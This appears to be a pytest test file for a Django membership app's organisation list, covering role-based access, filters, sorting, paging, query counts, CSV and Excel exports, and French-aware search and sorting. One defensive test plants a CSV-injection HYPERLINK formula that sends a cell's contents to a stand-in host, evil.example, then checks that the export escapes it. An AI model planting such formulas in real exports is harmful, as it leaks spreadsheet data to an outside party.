"""The organisation list: filters, sorting, pages, hours of a fiscal year, exports."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from consortium.core.fiscal_years import fiscal_year_name_for
from consortium.members.models import LegalForm, MemberCategory, Region
from consortium.testing.factories import (
    FiscalYearFactory,
    MandateFactory,
    MembershipFactory,
    OrganisationFactory,
    TimeEntryFactory,
    UserFactory,
)
from consortium.testing.web import signed_in, url

pytestmark = pytest.mark.django_db


@pytest.fixture
def scene(scene):
    """Coopérative du Fjord (FJORD, 60 h in 2020-2021, a user member since 2015) of the
    federation Fédération des coops (FED, a support member), and Mutuelle de l'Est (MUT, in
    Montréal, never a member)."""
    FiscalYearFactory(name="2020-2021")
    federation = OrganisationFactory(code="FED", name="Fédération des coops", neq="1140000001")
    MembershipFactory(organisation=federation, category=MemberCategory.SUPPORT)
    scene.organisation.federation = federation
    scene.organisation.region = Region.SAGUENAY
    scene.organisation.save()
    MembershipFactory(organisation=scene.organisation, category=MemberCategory.USER)
    OrganisationFactory(
        code="MUT", name="Mutuelle de l'Est", legal_form=LegalForm.MUTUAL, region=Region.MONTREAL
    )
    scene.federation = federation
    return scene


def listed_names(response) -> list[str]:
    return re.findall(
        r'<th scope="row"[^>]*><a href="/(?:en/)?organisations/[^/]+/"[^>]*>([^<]+)</a>',
        response.content.decode().replace("&#x27;", "'"),
    )


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(url("members:organisation_list"))
    assert response.status_code == 302
    assert response["Location"].startswith(url("accounts:login"))


def test_a_user_without_a_staff_role_is_refused(client):
    response = signed_in(client, UserFactory(username="nobody")).get(
        url("members:organisation_list")
    )
    assert response.status_code == 403


@pytest.mark.parametrize(
    "who",
    [
        "owner",
        "colleague",
        "director",
        "director_elsewhere",
        "finance",
        "communications",
        "administrator",
    ],
)
def test_every_staff_role_reads_every_organisation_by_name(client, scene, who):
    response = signed_in(client, getattr(scene.people, who)).get(url("members:organisation_list"))
    assert response.status_code == 200
    assert listed_names(response) == [
        "Coopérative du Fjord",
        "Fédération des coops",
        "Mutuelle de l'Est",
    ]


def test_an_outsider_expert_reads_them_too(client, scene):
    response = signed_in(client, scene.outsider).get(url("members:organisation_list"))
    assert len(listed_names(response)) == 3


def test_each_row_shows_its_category_federation_and_hours_of_the_chosen_year(client, scene):
    response = signed_in(client, scene.people.finance).get(
        url("members:organisation_list"), {"year": "2020-2021"}
    )
    page = response.content.decode()
    row = re.search(r"Coopérative du Fjord</a>(.*?)</tr>", page, re.S).group(1)
    assert "membre utilisateur" in row
    assert "02 – Saguenay–Lac-Saint-Jean" in row
    assert '<a href="/organisations/FED/">Fédération des coops</a>' in row
    assert "60,0" in row
    assert "heures de l'exercice 2020-2021" in page.replace("&#x27;", "'")


def test_the_hours_column_counts_the_current_fiscal_year_by_default(client, scene):
    today = timezone.localdate()
    TimeEntryFactory(mandate=scene.mandate, date=today, hours=Decimal("3"))
    response = signed_in(client, scene.people.finance).get(url("members:organisation_list"))
    page = response.content.decode()
    row = re.search(r"Coopérative du Fjord</a>(.*?)</tr>", page, re.S).group(1)
    assert "3,0" in row
    assert fiscal_year_name_for(today) in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"q": "fjord"}, ["Coopérative du Fjord"]),
        ({"q": "1140000001"}, ["Fédération des coops"]),
        ({"q": "mut"}, ["Mutuelle de l'Est"]),
        ({"legal_form": LegalForm.MUTUAL}, ["Mutuelle de l'Est"]),
        ({"region": Region.SAGUENAY}, ["Coopérative du Fjord"]),
        ({"category": MemberCategory.SUPPORT}, ["Fédération des coops"]),
        ({"category": "none"}, ["Mutuelle de l'Est"]),
        ({"member": "yes"}, ["Coopérative du Fjord", "Fédération des coops"]),
        ({"member": "no"}, ["Mutuelle de l'Est"]),
    ],
)
def test_the_filters_narrow_the_list(client, scene, query, expected):
    response = signed_in(client, scene.people.owner).get(url("members:organisation_list"), query)
    assert listed_names(response) == expected


def test_the_federation_filter_lists_its_member_enterprises(client, scene):
    response = signed_in(client, scene.people.owner).get(
        url("members:organisation_list"), {"federation": scene.federation.pk}
    )
    assert listed_names(response) == ["Coopérative du Fjord"]


def test_a_column_header_sorts_by_hours(client, scene):
    signed_in(client, scene.people.director)
    response = client.get(url("members:organisation_list"), {"sort": "-hours", "year": "2020-2021"})
    assert listed_names(response)[0] == "Coopérative du Fjord"
    assert 'aria-sort="descending"' in response.content.decode()
    response = client.get(url("members:organisation_list"), {"sort": "-name"})
    assert listed_names(response) == [
        "Mutuelle de l'Est",
        "Fédération des coops",
        "Coopérative du Fjord",
    ]


def test_the_list_shows_fifty_organisations_a_page(client, scene):
    OrganisationFactory.create_batch(50)
    signed_in(client, scene.people.owner)
    first = client.get(url("members:organisation_list"))
    second = client.get(url("members:organisation_list"), {"page": 2})
    assert (len(listed_names(first)), len(listed_names(second))) == (50, 3)


def test_the_list_takes_the_same_queries_however_many_organisations(
    client, scene, django_assert_num_queries
):
    signed_in(client, scene.people.owner)
    # Session, user, roles, the fiscal years of the year choice, the chosen year's days, the
    # count, the page, the federations of their filter.
    with django_assert_num_queries(8):
        client.get(url("members:organisation_list"))
    for index in range(20):
        organisation = OrganisationFactory(federation=scene.federation)
        MembershipFactory(organisation=organisation)
        TimeEntryFactory(
            mandate=MandateFactory(organisation=organisation), date=dt.date(2020, 6, 1 + index)
        )
    with django_assert_num_queries(8):
        response = client.get(
            url("members:organisation_list"), {"sort": "-hours", "year": "2020-2021"}
        )
    assert len(listed_names(response)) == 23


def test_the_exports_hold_every_filtered_organisation_with_french_headers(client, scene):
    signed_in(client, scene.people.communications)
    response = client.get(
        url("members:organisation_list"), {"format": "csv", "member": "yes", "year": "2020-2021"}
    )
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="organisations-{today}.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0] == [
        "Code",
        "Nom",
        "Forme juridique",
        "NEQ",
        "Région",
        "Province ou territoire",
        "Catégorie de membre",
        "Code du regroupement",
        "Regroupement sectoriel",
        "Entreprises affiliées",
        "Heures 2020-2021",
    ]
    assert rows[1] == [
        "FJORD",
        "Coopérative du Fjord",
        "coopérative",
        "",
        "02 – Saguenay–Lac-Saint-Jean",
        "Québec",
        "membre utilisateur",
        "FED",
        "Fédération des coops",
        "0",
        "60.00",
    ]
    assert [row[0] for row in rows[1:]] == ["FJORD", "FED"]
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get(url("members:organisation_list"), {"format": "xlsx"}).content)
    )
    assert [row[0] for row in workbook.active.iter_rows(values_only=True)] == [
        "Code",
        "FJORD",
        "FED",
        "MUT",
    ]


def test_the_english_list_renders(client, scene):
    response = signed_in(client, scene.people.director).get(
        url("members:organisation_list", language="en")
    )
    assert response.status_code == 200
    assert '<html lang="en">' in response.content.decode()


def test_a_name_planted_as_a_formula_is_written_as_text_in_the_csv(client, scene):
    """OWASP's CSV injection: a cell starting with = would run in the spreadsheet."""
    planted = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    scene.organisation.name = planted
    scene.organisation.save()
    signed_in(client, scene.people.communications)
    response = client.get(url("members:organisation_list"), {"format": "csv"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    # Quoted as a whole, so that a spreadsheet splitting on ";" keeps it in one cell.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""Cliquez"")"' in content
    rows = list(csv.reader(io.StringIO(content)))
    assert ["FJORD", "'" + planted] in [row[:2] for row in rows]


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("cooperative", ["Coopérative du Fjord"]),
        ("COOPÉRATIVE", ["Coopérative du Fjord"]),
        ("ecole", ["École de l'Anse"]),
        ("federation", ["Fédération des coops"]),
    ],
)
def test_the_search_ignores_accents_and_case(client, scene, word, expected):
    OrganisationFactory(code="ANSE", name="École de l'Anse")
    response = signed_in(client, scene.people.owner).get(
        url("members:organisation_list"), {"q": word}
    )
    assert listed_names(response) == expected


def test_names_sort_as_french_readers_expect(client, scene):
    """É with the E's, lower case with upper case: not after Z as bytes would put them."""
    OrganisationFactory(code="ANSE", name="École de l'Anse")
    OrganisationFactory(code="EAU", name="eau vive")
    OrganisationFactory(code="ZEN", name="Zénith")
    response = signed_in(client, scene.people.owner).get(url("members:organisation_list"))
    assert listed_names(response) == [
        "Coopérative du Fjord",
        "eau vive",
        "École de l'Anse",
        "Fédération des coops",
        "Mutuelle de l'Est",
        "Zénith",
    ]
